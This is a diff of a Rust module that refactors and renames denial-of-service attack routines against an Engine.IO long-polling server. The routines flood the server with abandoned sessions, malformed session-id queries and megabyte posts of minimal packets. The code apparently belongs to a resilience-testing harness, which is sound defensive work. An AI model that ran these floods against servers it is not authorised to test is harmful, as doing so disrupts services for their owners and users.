@@ -1,47 +1,47 @@
-//! Engine.IO over long polls.
+//! Attacks on Engine.IO over long-polling.
 
 use std::io;
 
 use crate::attacker::Attacker;
-use crate::line::{Line, request};
+use crate::raw_connection::{RawConnection, request};
 
-const HANDSHAKE: &str = "/socket.io/?EIO=4&transport=polling";
+const HANDSHAKE_PATH: &str = "/socket.io/?EIO=4&transport=polling";
 
 /// Opens a session, and returns its path.
-async fn open(attacker: &Attacker, line: &mut Line) -> io::Result<String> {
-    let opened = attacker.ask(line, &request("GET", HANDSHAKE, "", "")).await?;
+async fn open_session(attacker: &Attacker, line: &mut RawConnection) -> io::Result<String> {
+    let opened = attacker.send_request(line, &request("GET", HANDSHAKE_PATH, "", "")).await?;
     let sid = opened.body.split("\"sid\":\"").nth(1).and_then(|rest| rest.split('"').next());
-    Ok(format!("{HANDSHAKE}&sid={}", sid.ok_or(io::ErrorKind::ConnectionRefused)?))
+    Ok(format!("{HANDSHAKE_PATH}&sid={}", sid.ok_or(io::ErrorKind::ConnectionRefused)?))
 }
 
-/// Sessions that are opened and left, from all addresses.
-pub(super) async fn half_open(attacker: &Attacker) {
+/// Opens sessions from all addresses, and abandons them.
+pub(super) async fn half_open_sessions(attacker: &Attacker) {
     attacker
-        .many(250, async |number| {
+        .repeat_in_parallel(250, async |number| {
             let mut line = attacker.connect(number).await?;
             loop {
-                attacker.ask(&mut line, &request("GET", HANDSHAKE, "", "")).await?;
+                attacker.send_request(&mut line, &request("GET", HANDSHAKE_PATH, "", "")).await?;
             }
         })
         .await;
 }
 
-/// Sessions with an id that is none, which must count like any other.
-pub(super) async fn empty_sids(attacker: &Attacker) {
+/// Opens sessions with invalid session ids, which must count like any other session.
+pub(super) async fn invalid_session_ids(attacker: &Attacker) {
     let queries = ["&sid", "&sid=", "&%73id=x", "&sid=none", "&sid=x&sid"];
     attacker
-        .many(50, async |number| {
+        .repeat_in_parallel(50, async |number| {
             let mut line = attacker.connect(number).await?;
             for query in queries.iter().cycle() {
-                attacker.ask(&mut line, &request("GET", &format!("{HANDSHAKE}{query}"), "", "")).await?;
+                attacker.send_request(&mut line, &request("GET", &format!("{HANDSHAKE_PATH}{query}"), "", "")).await?;
             }
             Ok(())
         })
         .await;
 }
 
-/// Posts of a megabyte of the smallest packets.
-pub(super) async fn packed(attacker: &Attacker) {
+/// Posts a megabyte of the smallest packets.
+pub(super) async fn many_small_packets(attacker: &Attacker) {
     let payloads = [
         "3\u{1e}".repeat(450_000),
         "2\u{1e}".repeat(450_000),
@@ -53,15 +53,18 @@ pub(super) async fn packed(attacker: &Attacker) {
         "40\u{1e}41\u{1e}".repeat(1_000),
     ];
     attacker
-        .many(40, async |number| {
+        .repeat_in_parallel(40, async |number| {
             let mut line = attacker.connect(number).await?;
-            let path = open(attacker, &mut line).await?;
+            let path = open_session(attacker, &mut line).await?;
             attacker
-                .ask(&mut line, &request("POST", &path, "", &format!("40{{\"api_key\":\"{}\"}}", attacker.target.key)))
+                .send_request(
+                    &mut line,
+                    &request("POST", &path, "", &format!("40{{\"api_key\":\"{}\"}}", attacker.target.key)),
+                )
                 .await?;
             let payload = payloads[number % payloads.len()].trim_end_matches('\u{1e}');
             for _ in 0..4 {
-                attacker.ask(&mut line, &request("POST", &path, "", payload)).await?;
+                attacker.send_request(&mut line, &request("POST", &path, "", payload)).await?;
             }
             Ok(())
         })
